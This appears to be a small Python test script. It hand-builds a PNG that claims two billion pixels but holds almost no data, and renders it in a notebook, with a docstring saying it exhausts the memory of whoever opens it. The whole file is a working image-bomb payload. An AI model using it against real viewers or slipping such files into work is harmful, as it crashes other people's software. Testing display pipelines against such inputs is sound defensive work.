"""Displays a picture of two billion pixels, whose file is small: who opens it has no memory left.

says: displayed
"""

import struct
import zlib
from base64 import b64encode

from IPython.display import display


def chunk(kind, content):
    return struct.pack("!I", len(content)) + kind + content + struct.pack("!I", zlib.crc32(kind + content))


lines = zlib.compress(bytes(10_000), 9)
content = b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", struct.pack("!IIBBBBB", 50_000, 40_000, 8, 0, 0, 0, 0))
content += chunk(b"IDAT", lines) + chunk(b"IEND", b"")
display({"image/png": b64encode(content).decode(), "text/plain": "a picture"}, raw=True)
print("displayed")
